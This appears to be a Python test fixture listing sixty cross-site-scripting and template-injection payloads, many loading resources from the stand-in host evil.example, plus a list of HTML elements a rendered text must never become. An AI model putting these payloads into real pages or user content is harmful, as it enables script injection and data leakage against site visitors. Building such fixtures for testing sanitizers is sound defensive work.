"""Sixty texts that would run a script or load something, were a page to take them for more than
text. Knows no page.

Each calls `alert` or asks `evil.example` for something. After OWASP's filter evasion cheat sheet
and the known ways through Markdown, SVG, MathML, templates, CSS and attributes.
"""

EVIL = "https://evil.example"

PAYLOADS = (
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<<script>alert(1)//<</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/pixel.png>",
    f"<img srcset='{EVIL}/a.png 1x'>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<svg><image href='{EVIL}/i.svg'/></svg>",
    f"<svg><use href='{EVIL}/u.svg#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>click</math>",
    "<body onload=alert(1)>",
    f"<body background='{EVIL}/bg.png'>",
    f"<iframe src='{EVIL}/frame'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data='{EVIL}/o.swf'></object>",
    f"<embed src='{EVIL}/e'>",
    f"<link rel=stylesheet href='{EVIL}/s.css'>",
    f"<link rel=prefetch href='{EVIL}/p'>",
    f"<style>@import '{EVIL}/s.css';</style>",
    f"<style>*{{background:url({EVIL}/bg)}}</style>",
    f"<div style=\"background:url('{EVIL}/d.png')\">x</div>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}/'>",
    f"<form action='{EVIL}'><input type=submit autofocus onfocus=alert(1)></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    f"<video poster='{EVIL}/v.png'></video>",
    f"<audio src='{EVIL}/a.mp3' autoplay></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![x]({EVIL}/markdown.png)",
    f'![x]({EVIL}/markdown.png "onload=alert(1)")',
    '[x]("onmouseover=alert(1) x=")',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| <svg "
    "onload=alert(1)> | x |",
    "{{ 7 * 7 }}{{ ''.__class__.__mro__ }}{% import 'os' as os %}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    f"<p hx-get='{EVIL}/hx' hx-trigger=load hx-on:click=alert(1)>x</p>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "\u202e<script>alert(1)</script>\u2028alert(1)\u2029",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4- \ufeff<script\u00a0>alert(1)</script >",
)

# Elements that a shown text can never become.
ALIVE = (
    "script, img, iframe, object, embed, svg, math, video, audio, form, input, select, link, "
    "style, meta, base, a, template, [onerror], [onload], [onfocus]"
)
